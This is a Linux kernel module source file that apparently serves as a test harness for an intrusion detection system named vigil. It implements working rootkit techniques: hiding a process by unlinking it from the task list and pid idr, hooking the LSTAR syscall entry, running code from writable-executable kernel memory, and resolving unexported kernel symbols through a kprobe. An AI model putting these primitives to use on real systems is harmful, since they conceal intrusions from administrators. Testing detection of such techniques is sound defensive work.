// SPDX-License-Identifier: GPL-2.0
/*
 * vigiltest: vigil's test module for Linux guests. One module, techniques
 * chosen by `mode=` at load time (tests/linux/init passes the kernel
 * command line's vigilmod=MODE). Each mode prints its proof on the console
 * as "VIGIL-MOD ..." lines and leaves the module loaded.
 *
 *   offsets  the kernel's own view of what vigil's profile says
 *            (build/linux.profile, docs/profile.md): offsetof/sizeof of
 *            the structures, in the profile's own record format, the
 *            run-time addresses of the symbols, LSTAR, and the physical
 *            address of the kernel text. tests/system/test_linux_ids.py
 *            compares them with the profile and with the KASLR slide vigil
 *            reported.
 *
 *   hide-process  DKOM: the process named "vhide" (tests/linux/prog/vhide.c,
 *            started by /init on vigilprog=vhide) is unlinked from the task
 *            list (list_del_init on task->tasks, under tasklist_lock, found
 *            through kallsyms as it is not exported) and
 *            its pid is taken out of the pid namespace's lookup (the idr
 *            slot is set to NULL: /proc's listing, and so ps, no longer
 *            has it, and the number stays taken; a /proc/N dentry already
 *            cached still resolves through the struct pid). The task's
 *            struct pid (the pid hash) is left alone. It keeps running:
 *            the scheduler does not use the list. Proof: "VIGIL-MOD
 *            hide-process hidden pid N comm vhide tsc T", then /init finds
 *            N gone from /proc's listing and ps while vhide prints.
 *
 *   lstar    a system-call hook: LSTAR pointed at a trampoline of the
 *            module's that jumps on to the real entry_SYSCALL_64. Under
 *            KPTI the module's text is not mapped in the user page tables
 *            a SYSCALL starts on, so a live hook would fault at the next
 *            system call from user mode: the mode installs it with
 *            interrupts off, reads LSTAR back (the proof, "VIGIL-MOD hook
 *            lstar ... took yes"), and
 *            puts the kernel's entry back before anything else runs on the
 *            CPU. Under vigil the write is refused ("took no").
 *   wx-exec  code run from a W+X kernel allocation: a vmalloc'd page made
 *            executable with set_memory_x (both found through kallsyms)
 *            while it stays writable, code copied into it and called
 *            (proof: it returns 0x5649474c), then kept mapped for 300 ms
 *            (a rootkit keeps its code) and freed.
 *
 * The other rootkit techniques of the IDS tests are to be further modes.
 */
#include <linux/module.h>
#include <linux/kernel.h>
#include <linux/kprobes.h>
#include <linux/sched.h>
#include <linux/sched/task.h>
#include <linux/sched/signal.h>
#include <linux/mm_types.h>
#include <linux/fdtable.h>
#include <linux/fs.h>
#include <linux/net.h>
#include <net/sock.h>
#include <linux/idr.h>
#include <linux/pid_namespace.h>
#include <linux/vmalloc.h>
#include <linux/delay.h>
#include <asm/msr.h>
#include <asm/nospec-branch.h>
#include <asm/page.h>

MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("vigil's test module: the kernel's own view for the IDS tests");

static char *mode = "offsets";
module_param(mode, charp, 0444);
MODULE_PARM_DESC(mode, "what to do at load: offsets, hide-process, lstar, wx-exec");

/* kallsyms_lookup_name is not exported: its address from a kprobe on it. */
typedef unsigned long (*lookup_fn)(const char *name);
static lookup_fn lookup;

static int find_lookup(void)
{
	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
	int r = register_kprobe(&kp);

	if (r < 0)
		return r;
	lookup = (lookup_fn)kp.addr;
	unregister_kprobe(&kp);
	return 0;
}

#define STRUCT(s) pr_info("VIGIL-MOD struct %s %zu\n", #s, sizeof(struct s))
#define FIELD(s, f) pr_info("VIGIL-MOD struct %s.%s %zu %zu\n", #s, #f, offsetof(struct s, f), \
			    sizeof(((struct s *)0)->f))

static void mode_offsets(void)
{
	static const char *const syms[] = {
		"_text", "_stext", "_etext", "__start_rodata", "__end_rodata", "_end", "init_task",
		"init_mm", "init_top_pgt", "sys_call_table", "x64_sys_call", "idt_table",
		"entry_SYSCALL_64", "modules", "page_offset_base", "__per_cpu_offset", "linux_banner",
	};
	struct task_struct *t;
	unsigned long a;
	u64 lstar;
	int i;

	STRUCT(task_struct);
	FIELD(task_struct, tasks);
	FIELD(task_struct, pid);
	FIELD(task_struct, tgid);
	FIELD(task_struct, comm);
	FIELD(task_struct, mm);
	FIELD(task_struct, active_mm);
	FIELD(task_struct, real_parent);
	FIELD(task_struct, flags);
	FIELD(task_struct, __state);
	FIELD(task_struct, files);
	FIELD(task_struct, thread_group);
	STRUCT(mm_struct);
	FIELD(mm_struct, pgd);
	FIELD(list_head, next);
	FIELD(list_head, prev);
	STRUCT(module);
	FIELD(module, list);
	FIELD(module, name);
	FIELD(module, state);
	FIELD(module, core_layout.base);
	FIELD(module, core_layout.size);
	FIELD(module, core_layout.text_size);
	FIELD(module, core_layout.ro_size);
	FIELD(module, init_layout.base);
	FIELD(module, init_layout.size);
	FIELD(files_struct, fdt);
	FIELD(fdtable, max_fds);
	FIELD(fdtable, fd);
	FIELD(file, f_op);
	FIELD(file, private_data);
	FIELD(socket, type);
	FIELD(socket, sk);
	FIELD(sock, sk_type);
	FIELD(sock, sk_protocol);
	FIELD(sock, __sk_common.skc_family);

	pr_info("VIGIL-MOD runtime init_task 0x%lx\n", (unsigned long)&init_task);
	if (lookup)
		for (i = 0; i < ARRAY_SIZE(syms); i++) {
			a = lookup(syms[i]);
			if (a)
				pr_info("VIGIL-MOD runtime %s 0x%lx\n", syms[i], a);
		}
	rdmsrl(MSR_LSTAR, lstar);
	pr_info("VIGIL-MOD lstar 0x%llx\n", lstar);
	pr_info("VIGIL-MOD page_offset_base 0x%lx\n", page_offset_base);
	pr_info("VIGIL-MOD phys_base 0x%lx\n", (unsigned long)phys_base);
	if (lookup && (a = lookup("_text")))
		pr_info("VIGIL-MOD phys _text 0x%lx\n", (unsigned long)__pa_symbol(a));
	if (lookup && (a = lookup("init_top_pgt")))
		pr_info("VIGIL-MOD phys init_top_pgt 0x%lx\n", (unsigned long)__pa_symbol(a));
	pr_info("VIGIL-MOD self pid %d comm %s pgd 0x%lx\n", current->pid, current->comm,
		current->mm ? (unsigned long)__pa(current->mm->pgd) : 0ul);
	/* pid 1 (/init's shell: its mm lives as long as the workload) */
	rcu_read_lock();
	for_each_process(t)
		if (t->pid == 1 && t->mm)
			pr_info("VIGIL-MOD task 1 comm %s pgd 0x%lx\n", t->comm, (unsigned long)__pa(t->mm->pgd));
	rcu_read_unlock();
}

static int mode_hide_process(void)
{
	struct task_struct *t, *victim = NULL;
	rwlock_t *tl = lookup ? (rwlock_t *)lookup("tasklist_lock") : NULL;  /* not exported */
	int pid;

	if (!tl) {
		pr_info("VIGIL-MOD hide-process: tasklist_lock not found\n");
		return -ENOENT;
	}
	write_lock_irq(tl);
	for_each_process(t)
		if (!strcmp(t->comm, "vhide") && t->mm) {
			victim = t;
			break;
		}
	if (!victim) {
		write_unlock_irq(tl);
		pr_info("VIGIL-MOD hide-process: no process named vhide (vigilprog=vhide starts it)\n");
		return -ESRCH;
	}
	pid = victim->tgid;
	list_del_init(&victim->tasks);          /* gone from for_each_process; a later exit unlinks nothing */
	idr_replace(&init_pid_ns.idr, NULL, pid); /* /proc's readdir and lookup go through the idr */
	write_unlock_irq(tl);
	pr_info("VIGIL-MOD hide-process hidden pid %d comm vhide tsc %llu\n", pid, (unsigned long long)rdtsc());
	msleep(200);                            /* the hidden process has the CPU */
	return 0;
}

/* lstar: the trampoline, in the module's text */
unsigned long vigil_real_entry;
void vigil_lstar_tramp(void);
asm(".pushsection .text\n"
    ".globl vigil_lstar_tramp\n"
    ".type vigil_lstar_tramp, @function\n"
    "vigil_lstar_tramp:\n"
    ANNOTATE_RETPOLINE_SAFE
    "\tjmp *vigil_real_entry(%rip)\n"
    ".size vigil_lstar_tramp, . - vigil_lstar_tramp\n"
    ".popsection\n");

static int mode_lstar(void)
{
	unsigned long flags, tramp = (unsigned long)vigil_lstar_tramp;
	u64 orig, now;

	rdmsrl(MSR_LSTAR, orig);
	vigil_real_entry = orig;
	local_irq_save(flags);
	wrmsrl(MSR_LSTAR, tramp);
	rdmsrl(MSR_LSTAR, now);
	wrmsrl(MSR_LSTAR, orig);                /* KPTI: see above */
	local_irq_restore(flags);
	pr_info("VIGIL-MOD hook lstar trampoline 0x%lx to entry 0x%llx took %s (LSTAR read back 0x%llx)\n", tramp, orig,
		now == tramp ? "yes" : "no", now);
	return 0;
}

/* wx-exec: endbr64; mov $0x5649474c, %eax; ret */
static const u8 wx_code[] = { 0xf3, 0x0f, 0x1e, 0xfa, 0xb8, 0x4c, 0x47, 0x49, 0x56, 0xc3 };

static int mode_wx_exec(void)
{
	int (*set_x)(unsigned long addr, int numpages);
	unsigned int (*fn)(void);
	unsigned int r;
	void *page;

	set_x = lookup ? (void *)lookup("set_memory_x") : NULL;
	if (!set_x) {
		pr_info("VIGIL-MOD wx-exec: set_memory_x not found\n");
		return -ENOENT;
	}
	page = vmalloc(PAGE_SIZE);
	if (!page)
		return -ENOMEM;
	memcpy(page, wx_code, sizeof(wx_code));
	if (set_x((unsigned long)page, 1)) {
		pr_info("VIGIL-MOD wx-exec: set_memory_x failed\n");
		vfree(page);
		return -EPERM;
	}
	pr_info("VIGIL-MOD wx-exec page 0x%lx writable and executable\n", (unsigned long)page);
	fn = page;
	r = fn();
	pr_info("VIGIL-MOD wx-exec ran code at 0x%lx: returned 0x%x\n", (unsigned long)page, r);
	msleep(300);
	vfree(page);                            /* vfree resets the page's permissions */
	return 0;
}

static int __init vigiltest_init(void)
{
	int r = find_lookup();

	if (r)
		pr_info("VIGIL-MOD no kallsyms_lookup_name (kprobe: %d)\n", r);
	pr_info("VIGIL-MOD start mode=%s\n", mode);
	if (!strcmp(mode, "offsets")) {
		mode_offsets();
	} else if (!strcmp(mode, "hide-process")) {
		r = mode_hide_process();
		if (r)
			return r;
	} else if (!strcmp(mode, "lstar")) {
		mode_lstar();
	} else if (!strcmp(mode, "wx-exec")) {
		r = mode_wx_exec();
		if (r)
			return r;
	} else {
		pr_info("VIGIL-MOD error: unknown mode \"%s\"; known: offsets, hide-process, lstar, wx-exec\n", mode);
		return -EINVAL;
	}
	pr_info("VIGIL-MOD done mode=%s\n", mode);
	return 0;
}

static void __exit vigiltest_exit(void)
{
}

module_init(vigiltest_init);
module_exit(vigiltest_exit);
